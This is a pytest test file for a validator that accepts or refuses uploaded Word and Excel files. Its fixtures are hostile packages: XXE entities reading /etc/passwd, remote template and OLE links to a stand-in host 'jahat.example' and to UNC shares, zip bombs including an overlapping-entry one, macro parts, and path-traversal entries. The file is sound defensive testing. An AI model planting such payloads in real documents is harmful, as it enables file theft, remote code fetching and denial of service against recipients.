"""A Word or Excel file is taken when it is whole, of a sane size, without macros, and fetches nothing."""

import io
import zipfile
from collections.abc import Callable

import pytest
import xlsxwriter

from app.storage import samples
from app.storage.content import FileFacts

Inspect = Callable[[bytes, str], FileFacts]
Refusal = Callable[[bytes, str], str]

DOCX = samples.make_docx("Pedoman", ["Satu"])
XLSX = samples.make_xlsx("Rekap", [["a"], [1]])
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OFFICE_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(
    source: bytes, added: dict[str, bytes] | None = None, *, without: str = "", replace: tuple[str, str] = ("", "")
) -> bytes:
    """The package with parts added, one part less, or words replaced in its lists."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename != without:
                new.writestr(entry.filename, old.read(entry).replace(*(word.encode() for word in replace)))
        for name, data in (added or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def relation(kind: str, target: str) -> bytes:
    """A document whose settings point to `target`."""
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{OFFICE_RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return changed(DOCX, {"word/_rels/settings.xml.rels": rels.encode()})


def with_chart_and_formula() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Rekap")
        sheet.write_column(0, 0, [1, 2, 3])
        sheet.write_formula(3, 0, "=SUM(A1:A3)")
        sheet.write_url(4, 0, "https://balangankab.go.id")
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Rekap!$A$1:$A$3"})
        sheet.insert_chart("C2", chart)
    return out.getvalue()


def overlapping() -> bytes:
    """Two directory entries that share the same bytes: how a small bomb unpacks to petabytes."""
    twice = changed(DOCX, {"word/a.xml": b"x" * 1000})
    at = twice.rindex(b"PK\x01\x02")
    entry = twice[at : twice.rindex(b"PK\x05\x06")].replace(b"word/a.xml", b"word/b.xml")
    end = bytearray(twice[twice.rindex(b"PK\x05\x06") :])
    for field in (8, 10):
        end[field] += 1
    size = int.from_bytes(end[12:16], "little") + len(entry)
    end[12:16] = size.to_bytes(4, "little")
    return twice[: twice.rindex(b"PK\x05\x06")] + entry + bytes(end)


HONEST = {
    "a workbook with chart, formula and link.xlsx": with_chart_and_formula(),
    "a picture inside.docx": changed(DOCX, {"word/media/image1.png": samples.make_png("Layar")}),
    "a web link.docx": relation("hyperlink", "https://balangankab.go.id"),
    "a picture on the web.docx": relation("image", "https://balangankab.go.id/logo.png"),
    "the writer's own template.docx": relation(
        "attachedTemplate", "file:///C:\\Users\\dinkes\\AppData\\Templates\\Surat.dotx"
    ),
    "a link to another workbook.xlsx": changed(
        XLSX, {"xl/externalLinks/_rels/externalLink1.xml.rels": b"<Relationships/>"}
    ),
    "another order of parts.docx": changed(
        changed(DOCX, without="[Content_Types].xml"),
        {"[Content_Types].xml": zipfile.ZipFile(io.BytesIO(DOCX)).read("[Content_Types].xml")},
    ),
}


@pytest.mark.parametrize("what", HONEST)
def test_what_people_put_into_their_documents_is_taken(inspect: Inspect, what: str) -> None:
    facts = inspect(HONEST[what], what)
    assert (facts.kind, facts.warnings) == (what.rsplit(".", 1)[1], ())


def test_a_workbook_inside_a_document_is_taken_and_said(inspect: Inspect) -> None:
    assert inspect(changed(DOCX, {"word/embeddings/Data.xlsx": XLSX}), "a.docx").warnings == (
        "content.office_embedded",
    )


XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (changed(DOCX, {"word/vbaProject.bin": b"x"}), "a.docx", "content.office_macro"),
        (changed(XLSX, {"xl/VBAPROJECT.BIN": b"x"}), "a.xlsx", "content.office_macro"),
        (changed(XLSX, {"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx", "content.office_macro"),
        (changed(DOCX, {"word/activeX/activeX1.xml": b"<x/>"}), "a.docx", "content.office_macro"),
        (changed(DOCX, replace=(DOCUMENT_MAIN, MACRO_MAIN)), "a.docx", "content.office_macro"),
        (changed(DOCX, {"word/a.xml": bytes(101 << 20)}), "a.docx", "content.office_bomb"),
        (changed(DOCX, {"word/media/a.bin": bytes(101 << 20)}), "a.docx", "content.office_bomb"),
        (changed(DOCX, {f"word/{n}.xml": b"" for n in range(1000)}), "a.docx", "content.office_bomb"),
        (changed(DOCX, {"word/_rels/a.xml.rels": bytes(5 << 20)}), "a.docx", "content.office_bomb"),
        (changed(XLSX, {"xl/a.xml": XXE}), "a.xlsx", "content.office_external"),
        (changed(DOCX, {"word/a.xml": XXE.decode().encode("utf-16")}), "a.docx", "content.office_external"),
        (changed(DOCX, {"word/a.xml": b"<!--" + b" " * 300_000 + b"-->" + XXE}), "a.docx", "content.office_external"),
        (changed(DOCX, {"word/_rels/a.xml.rels": XXE}), "a.docx", "content.office_external"),
        (relation("attachedTemplate", "https://jahat.example/a.dotm"), "a.docx", "content.office_external"),
        (relation("attachedTemplate", "\\\\10.0.0.9\\bagi\\a.dotm"), "a.docx", "content.office_external"),
        (relation("attachedTemplate", "file://10.0.0.9/bagi/a.dotm"), "a.docx", "content.office_external"),
        (relation("attachedTemplate", "file://///10.0.0.9/a.dotm"), "a.docx", "content.office_external"),
        (relation("oleObject", "http://jahat.example/a.hta!"), "a.docx", "content.office_external"),
        (relation("frame", "mhtml:http://jahat.example/a"), "a.docx", "content.office_external"),
        (relation("subDocument", "ftp://jahat.example/a.docx"), "a.docx", "content.office_external"),
        (relation("image", "\\\\10.0.0.9\\a.png"), "a.docx", "content.office_external"),
        (changed(DOCX, {"../../etc/passwd": b"x"}), "a.docx", "content.office_broken"),
        (changed(DOCX, {"/etc/passwd": b"x"}), "a.docx", "content.office_broken"),
        (DOCX[: len(DOCX) // 2], "a.docx", "content.office_broken"),
        (DOCX.replace(b"word/document.xml", b"word/dokumen_.xml", 1), "a.docx", "content.office_broken"),
        (changed(DOCX, without="[Content_Types].xml"), "a.docx", "content.mismatch"),
        (changed(DOCX, replace=("document.main+xml", "template.main+xml")), "a.docx", "content.mismatch"),
        (
            changed(DOCX, {"[Content_Types].xml": b"<rusak"}, without="[Content_Types].xml"),
            "a.docx",
            "content.office_broken",
        ),
    ],
)
def test_macros_bombs_fetched_parts_and_broken_packages_are_refused(
    refusal: Refusal, data: bytes, name: str, code: str
) -> None:
    assert refusal(data, name) == code


def test_a_part_with_a_password_is_refused(refusal: Refusal) -> None:
    locked = bytearray(DOCX)
    locked[locked.rindex(b"PK\x01\x02") + 8] |= 1
    assert refusal(bytes(locked), "a.docx") == "content.office_encrypted"


def test_parts_that_share_their_bytes_are_refused(refusal: Refusal) -> None:
    assert refusal(overlapping(), "a.docx") == "content.office_broken"


def test_a_part_larger_than_it_says_is_refused(refusal: Refusal) -> None:
    small = changed(DOCX, {"word/a.xml": b"x" * 70_000})
    lying = small.replace((70_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert lying != small
    assert refusal(lying, "a.docx") == "content.office_broken"
